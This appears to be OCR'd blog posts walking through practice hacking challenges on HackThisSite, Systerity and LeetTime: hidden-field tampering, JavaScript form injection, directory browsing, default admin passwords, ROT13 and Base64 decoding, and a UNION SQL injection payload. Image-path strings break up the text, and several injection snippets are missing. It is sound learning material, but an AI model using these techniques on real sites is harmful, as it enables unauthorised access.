HackThisSite Basic Challenges 1-5


In this post I will be documenting most of the Basic Challenges found on HackThisSite.org. Completing these challenges will give you a very basic overview of HTML and Javascript Injection. The rest of the challenges will be documented in another post.

Basic – Level 1

Description: This level is what we call "The Idiot Test", if you can't complete it, don't give up on learning all you can, but, don't go begging to someone else for the answer, thats one way to get you hated/made fun of. Enter the password and you can continue.

The purpose of the first challenge is to test your HTML knowledge. Although nothing appears to be visible on the page, the password is commented out on the source code using Javascript. Inspecting the source is how this challenged will be solved.

<!-- the first few levels are extremely easy: password is 488918f4 -->


Basic – Level 2

Description: Network Security Sam set up a password protection script. He made it load the real password from an unencrypted text file and compare it to the password the user enters. However, he neglected to upload the password file...

This challenge will force you to comprehend the scenario that is being presented. Because Sam forgot to upload the password file, the password is going to be blank.

Basic – Level 3

Description: This time Network Security Sam remembered to upload the password file, but there were deeper problems thanthat.

This challenge will once again test your knowledge on basic HTML. Every form in HTML is enclosed within tags. Inspecting the source code of this form will provide an attacker with more insight:

<form action="/missions/basic/3/index.php" method="post">
<input type="hidden" name="file" value="password.php" />
<input type="password" name="password" />
<input type="submit" value="submit" /></form>

The action will tell the form where to go next once the form is submitted. The method is how this information will be transmit, $_POST suggest that the information will be sent to the server for interpretation, and $_GET suggests that there will be information that will be obtained from the server. In this case we will be sending the password.

It is important to understand how forms are made in HTML to complete this challenge.tags tell the form if the characteristic of a field is going to be a text box, a radio button, a text area, etc. This feature is denoted by type . The values can be “text” for text boxes, “password” for input to be obfuscated, and “hidden” for the field to be hidden. The name field in a form gives that input type a unique name, this is useful when using DOM because it knows how to access those specific fields using their given name. This becomes useful when utilizing Javascript injection (more ahead about this). The value is simple a name that shows up as a description of what that field is.

The page for this challenge only shows ONE text box, but as you can see there are TWO shown on the source. You can change the value “type” to “text” to show this form.

Although this does not do much but show the extra text box, it isinteresting to see the value of this field – password.php. This challenge is highly unrealistic but it tells us the file where the password is stored. Pointing your browser to https://www.hackthissite.org/missions/basic/3/password.php solves this challenge.

Basic – Level 4

Description: This time Sam hardcoded the password into the script. However, the password is long and complex, and Sam is often forgetful. So he wrote a script that would email his password to him automatically in case he forgot. Here is the script

I found this challenge to be interesting because it can be completed in more than one way. One way is by using your knowledge on HTML, which is the easier way out of the two, and the second one is by using your knowledge on Javascript, which can be accomplished by using Javascript Injection to modify form values. Lets take a look at both these methods. The first method will cover HTML.

Method One – Editing HTML.

Lets begin by taking a look at how the form is set up in the source code:<form action="/missions/basic/4/level4.php"method="post">
<input type="hidden" name="to" value="sam@hackthissite.org" />
<input type="submit" value="Send password to Sam" />

<form action="/missions/basic/4/index.php" method="post">
<input type="password" name="password" />
<input type="submit" value="submit" />

This method is very similar to challenge 3, where there is a hidden form in the source. If you pay attention to the second line of the source code above, you will notice that thepassword is being sent to sam@hackthissite.org. This is thevalue that we need to edit. By changing the inputtype to “text” will cause the field to appear on the page; allowing you to edit the email and submit the form, concluding this challenge:

Method two – Javascript Injection.
The last method to solve this challenge is by editing the form my tampering with the elements with Javascript. Lets revisit our source code:

<form action="/missions/basic/4/level4.php" method="post">
<input type="hidden" name="to" value="sam@hackthissite.org" />
<input type="submit" value="Send password to Sam" />

<form action="/missions/basic/4/index.php" method="post">
<input type="password" name="password" />
<input type="submit" value="submit" />

In order to pull this attack off, it is necessary to understand how javascript handles forms. Every form in Javascript is contained in an array called forms[x], where x is the number of forms on the page starting from zero. This is important for this challenge because the value that we want to edit on this page is on the first form, therefore in our injection point, we will be using forms[0]. Changing the value of sam@hackthissite.org can be accomplished in two ways. The first is accessing the name of the input type and inserting our own value, and the second way is by modifying the element that corresponds to that value and inserting our own.

Lets take a closer look at our code:

<input type="hidden" name="to" value="sam@hackthissite.org" />

If we wanted to get the value of this field, our injection becomes:


Everything on this injection is derived from the code that was supplied at source. forms[0] is included because its the first form, and “to.value” is included because to is the value of the field’s name. Inserting theabove injection in the URL will display “sam@hackthissite.org”.

At this point we can specify the value for this field with:


In order to pass this challenge, you need to send the password to the email you registered on HTS.

The last method to finish this challenge is by modifying the element that corresponds to that value and editing it. To accomplish this, we first need to understand what are elementswhen it comes to javascript. An HTML element is an single component of a form. These components represent a value within the forms, they can represent values throughout the entire markup. Take a look at the source code below provided by the challenge:

<input type="hidden" name="to" value="sam@hackthissite.org" />
<input type="submit" value="Send password to Sam" />

There are two values for the input tags, the first value is the email – sam@hackthissite.org, and the second value is “Send password to Sam”. We can use their elements to change their values. We will grab the first available element and see the value. Thiscan be done with:


The page will display an alert box that says “sam@hackthissite.org”. If we change the value of our element to 1:


The page will display an alert box that says “Send password to Sam”. From here you can change the value of the email using its element to complete the challenge:


Concluding the challenge in two different ways.

Basic – Level 5Description: Sam has gotten wise to all the people who wrote their own forms to get the password. Rather than actually learn the password, he decided to make his email program a little more secure.

This challenge is very similar to the previous challenge, I was not sure if there was suppose to be a difference, however, I did complete it the same way as challenge 4.


I will conclude the first few challenges here and document the rest another in another post. This thread will be updated with a continuation link to the next challenges.

Thank you for reading!Systerity Web Hacking Challenge


Today I will be documenting a Web Hacking Challenge created by a group known as Systerity. This challenge will not involve Web Application exploitation but rather your analytical filters encompassing:

  • Directory Traversals
  • ROT 13 Decoding
  • Base64 Decoding
  • Basic Comprehension Skills

Getting To Know Your Target

The challenge is located at:The goal of this challenge is simple – you need to report the Hackers IP Address using a reporting tool that is built in the Content Management System. The challenge starts off with the site being defaced by the hacker, with an image that says “HackeD”. Analyzing the source code (poorly written HTML) is a good way to find where this image is located in the site:

<img src="admin/images/skidded.jpg">

We can traverse to the directory of where the image is being hosted:

And i find a “readme.txt” file that gave me more information about the directories. In my mind, every directory (at least the ones that mattered for this challenge) contained a “readme.txt” file that would give me more information about something that is relevant for my next move.

I went to the parent folder and traversed to the admin directory:

I was greeted for with an Admin Panel:For man-made challenges like these, it is always a good idea to test for SQL Injection vulnerabilities or fuzz the forms for input validation. I did attempt it for this challenge, but it was beyond the scope of how to complete it and input was sanitized as far as I could tell.

I clicked “Find Password”:

But in order to get the current password you need to find the old password. I had to think of an alternative, then I remembered that there was “readme.txt” file in every directory that contained more information. I wanted to test if this was the case.


Sure enough, the contents inscribed provided me with the default password “alpine”, which possibly was not changed by the admin.

Going back to the “Find Password” page, issuing “alpine” as the old password gave me access to the current password – “alpine2”.

I went back to the admin login panel and authenticated as the admin:

At this point I could not think that the challenge was over but only has begun. I had a mission, and that was to find the IP Address of the attacker and report it. So I did some detective work.

The “User Accounts” link gave me a list of users, which could be useful:


The checked the user logs and found no traces of anything worth documenting, however for the admin logs; I did find something:

[30/12/14-01:33] logged off.

It was apparent to me that was the IP of the hacker that defaced the site. That solves one piece of this mystery but I still needed to find this reporting tool to blacklist the attacker. The last thing that I could find was a corrupted backup:


This part of the challenge was basic. Any files that include numbers on their names are worth changing, specially with files like logs or files that include IDs in their name because they areformatted to increment when other files are added. With that notion in mind, changing the name from backup_001 to backup_002, backup_003, etc, may give you varying results. For this challenge, the only valid file after backup_001 was backup_002, other backups_00x we not existent.



Although it was not very useful, I did try to check the following location based on the what was inside encoded(); and there was nothing useful there. This message is encoded in Base64, so I decoded it and got:


Va guvf sbyqre lbh unir fbzr gbbyf lbh pna hfr. Gur zbfg cbchyne bar vf gur "ercbeg" gbby. Guvf jvyy ercbeg gur VC bs nal hfre lbh srry unf pebffrq n yvar. Vg pna or sbhaq va /gbbyf/ercbeg.cuc

Gnxr n ybbx nebhaq naq lbh'yy yvxr jung lbh'ir frra.

This message did not make any sense to me when I fist seen it. I took some pen and paper and spent 10 minutes to figure out how it was encoded. After several sheets of paper and later realizing the actual name of this encoding scheme, all of these characters were placed 13 places after from their original letter. This is also known at ROT13 or Rotation 13.

After decoding, the message started to make sense:Webmaster, In this folder you have some tools you can use. The most popular one is the "report" tool. This will report the IP of any user you feel has crossed a line. It can be found in /tools/report.php Take a look around and you'll like what you've seen.

Finally, we traverse to our reporting tool located:

The challenge is done once the IP Address is reported:


Thank you for taking the time to view my post. Understanding encoding schemes was the general focus of this challenge. I will try to post the other challenges from Systerity, they’ve all been fun to solve!Happy Hunting!

LeetTime.net Death Row SQL Injection Challenges

This post will document some challenges found in LeetTime.net for their Death Row SQL Injection. I wanted to explain how to exploit the Web Applications and why exploitation works.  A basic understanding of SQL may be needed for the comprehension of these exercises. The pseudo code that is being displayed for these examples are just fictional representations of what the code in the back-end may appear to be.

Death Row Injection – Challenge 1.

The first challenge is very basic. There is not much syntax to make up and it usually follows the same methodology for exploiting SQL Injections.

Vulnerable Parameter – Server Request:

Server Response – Error On Page:
SQL Syntax Error around ' and id=1' limit 1

Possible Pseudo Code:

SELECT * FROM table WHERE ID=1 limit 1

Why It Works – Server Request:

SELECT * FROM table WHERE ID=-1 union select 1,version(),3,4,5-- limit 1


Death Row Injection – Challenge 2.

Vulnerable Parameter – Server Request:

